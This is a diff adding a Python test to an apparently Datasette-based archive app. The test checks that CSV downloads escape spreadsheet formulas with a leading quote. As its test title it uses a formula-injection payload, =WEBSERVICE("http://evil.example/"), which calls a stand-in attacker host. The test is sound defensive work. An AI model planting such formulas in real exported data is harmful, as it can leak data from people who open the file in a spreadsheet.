@@ -6,6 +6,8 @@ live images)."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -279,3 +281,23 @@ def test_the_web_view_folds_labels_in_any_script(tmp_path: Path) -> None:
     assert web.json("/archive/search.json", q="ผ้า", label="новости")["total"] == 1
     assert web.json("/archive/search.json", q="ผ้า", author="ÜNAL")["total"] == 1
     assert web.json("/archive/search.json", q="ผ้า", label="спорт")["total"] == 0
+
+
+def test_datasette_csv_downloads_write_formulas_as_text(tmp_path: Path) -> None:
+    """A table's CSV, every row streamed, and an SQL query's CSV: a cell a spreadsheet would
+    run starts with ', as in goahead export; JSON and the debug view are as they were."""
+    path = tmp_path / "archive.db"
+    db = open_archive(path)
+    title = '=WEBSERVICE("http://evil.example/")'
+    upsert_post(db, Post(**{**cloth_post(2).__dict__, "title": title, "author": "@me"}))
+    db.close()
+    web = Client(path, tmp_path / "warcs")
+    for path, params in (("/archive/posts.csv", {}),
+                         ("/archive/posts.csv", {"_stream": "on", "_dl": "1"}),
+                         ("/archive.csv", {"sql": "select title, author from posts"})):
+        answer = web.get(path, **params)
+        assert answer.status_code == 200, (path, params)
+        row = next(csv.DictReader(io.StringIO(answer.text)))
+        assert (row["title"], row["author"]) == ("'" + title, "'@me"), (path, params)
+    assert web.json("/archive/posts.json", _shape="array")[0]["title"] == title
+    assert "=WEBSERVICE(" in web.get("/archive/posts.csv", _trace="1").text
